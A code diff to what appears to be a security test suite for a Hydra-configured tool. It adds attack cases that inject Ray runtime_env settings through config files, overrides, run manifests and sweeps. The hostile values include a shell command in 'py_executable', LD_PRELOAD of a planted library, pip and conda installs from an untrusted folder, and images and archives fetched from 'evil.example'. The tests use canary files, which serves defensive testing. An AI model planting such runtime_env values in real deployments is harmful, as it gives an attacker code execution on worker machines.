@@ -81,14 +81,16 @@ def by_stored_sweep(words, *typed, folder="0"):
     return Attack(["-m", "resume=FOLDER/sweep", *typed], {"sweep/sweep.json": json.dumps(stored)})
 
 
-def by_command_line(section):
-    def flow(value):
-        if isinstance(value, dict):
-            return "{" + ",".join(f"{name}:{flow(one)}" for name, one in value.items()) + "}"
-        if isinstance(value, list):
-            return "[" + ",".join(map(flow, value)) + "]"
-        return f"'{value}'" if isinstance(value, str) else json.dumps(value)
+def flow(value):
+    """A value as an override has it."""
+    if isinstance(value, dict):
+        return "{" + ",".join(f"{name}:{flow(one)}" for name, one in value.items()) + "}"
+    if isinstance(value, list):
+        return "[" + ",".join(map(flow, value)) + "]"
+    return f"'{value}'" if isinstance(value, str) else json.dumps(value)
 
+
+def by_command_line(section):
     return Attack([f"++hydra.{name}={flow(value)}" for name, value in section.items()])
 
 
@@ -320,6 +322,66 @@ FILES = {
 }
 SUBFOLDERS = [".", "", "..", "conf", "FOLDER", "../../x", ".hydra/../conf"]
 
+# 9. What the processes of Ray's actors are started with, and which Ray they belong to.
+ACTORS = {
+    "program": {"py_executable": "touch CANARY; python"},
+    "modules": {"env_vars": {"PYTHONPATH": "FOLDER"}},
+    "libraries": {"env_vars": {"LD_PRELOAD": "FOLDER/x.so"}},
+    "packages": {"pip": ["FOLDER"]},
+    "packages by uv": {"uv": {"packages": ["FOLDER"]}},
+    "packages by conda": {"conda": "FOLDER/environment.yaml"},
+    "hook": {"worker_process_setup_hook": "stranger.made"},
+    "image": {"image_uri": "evil.example/image"},
+    "container": {"container": {"image": "evil.example/image"}},
+    "jars": {"java_jars": ["FOLDER/x.jar"]},
+    "profiler": {"nsight": {"o": "CANARY"}},
+    "plugin": {"stranger": "made"},
+    "folder": {"working_dir": "FOLDER"},
+    "archive": {"working_dir": "https://evil.example/x.zip"},
+    "package": {"py_modules": ["FOLDER"]},
+    "packages's archive": {"py_modules": ["s3://evil/x.whl"]},
+    "harmless": {"env_vars": {"OMP_NUM_THREADS": "1"}},
+}
+RAY = ["loader=ray", "loader.num_workers=1"]
+
+
+def by_doors(runtime_env):
+    """Attacks with a runtime environment, by where it comes from."""
+    ray = {"runtime_env": runtime_env}
+    node = {"loader": {"backend": "ray", "num_workers": 1, "ray": ray}}
+    files = {
+        "experiment/evil.yaml": "# @package _global_\n" + yaml.safe_dump(node),
+        "evil.yaml": yaml.safe_dump({"defaults": ["config", "_self_"], **node}),
+        "loader/evil.yaml": yaml.safe_dump({"defaults": ["ray"], "ray": ray}),
+        "evil/there.yaml": yaml.safe_dump(runtime_env),
+    }
+    typed = {
+        "experiment": ["experiment=evil"],
+        "primary": ["--config-name", "evil"],
+        "group": ["loader=evil"],
+        "group put there": [*RAY, "+evil@loader.ray.runtime_env=there"],
+    }
+    for name, words in typed.items():
+        yield name, Attack(["--config-dir", "FOLDER", *words], files)
+    sweep = {"version": 1, "fixed": [], "keys": ["seed"], "ends": [], "threads": None}
+    sweep |= {"began": 0.0, "jobs": []}
+    inside = {
+        "loader.ray.runtime_env": flow(runtime_env),
+        "++loader.ray": flow(ray),
+        "++loader": flow({"ray": ray}),
+    }
+    for key, value in inside.items():
+        words = [*RAY, f"{key}={value}" if key[0] == "+" else f"+{key}={value}"]
+        manifest = json.dumps({"overrides": words})
+        yield f"manifest, {key}", Attack(["resume=FOLDER/run"], {"run/manifest.json": manifest})
+        stored = json.dumps({**sweep, "words": ["seed=1,2", *words]})
+        yield (
+            f"sweep's folder, {key}",
+            Attack(["-m", "resume=FOLDER/sweep"], {"sweep/sweep.json": stored}),
+        )
+        attack = by_experiment({"sweeper": {"params": {words[-1].partition("=")[0]: value}}}, *RAY)
+        yield f"sweep over {key}", Attack(["-m", *attack.words, "seed=1,2"], attack.files)
+
 
 # 9. Lines of a batch script. The line before the break is whole for sbatch, too, by its backslash.
 LINE = "x\\'\"\ntouch CANARY\n#"
@@ -456,6 +518,18 @@ def attacks():
     yield "recorded overrides", by_experiment({"overrides": {"task": ["--trust=stranger"]}})
     for name, attack in SCRIPTS.items():
         yield f"script: {name}", attack
+    for place, (name, runtime_env) in enumerate(ACTORS.items()):
+        doors = list(by_doors(runtime_env))
+        for door, attack in doors if place == 0 else [doors[place % len(doors)]]:
+            yield f"actors: {name}, {door}", attack
+        if name not in ("harmless", "folder"):
+            words = [*RAY, f"+loader.ray.runtime_env={flow(runtime_env)}"]
+            yield f"actors: {name}, typed", Attack(words)
+    for name in ("working_dir", "py_executable"):
+        words = [*RAY, f"+loader.ray.runtime_env.{name}=${{run_dir}}"]
+        later = {"experiment/evil.yaml": "# @package _global_\nrun_dir: FOLDER\n"}
+        words += ["--config-dir", "FOLDER", "experiment=evil"]
+        yield f"actors: {name} by interpolation", Attack(words, later)
 
 
 ATTACKS = dict(attacks())
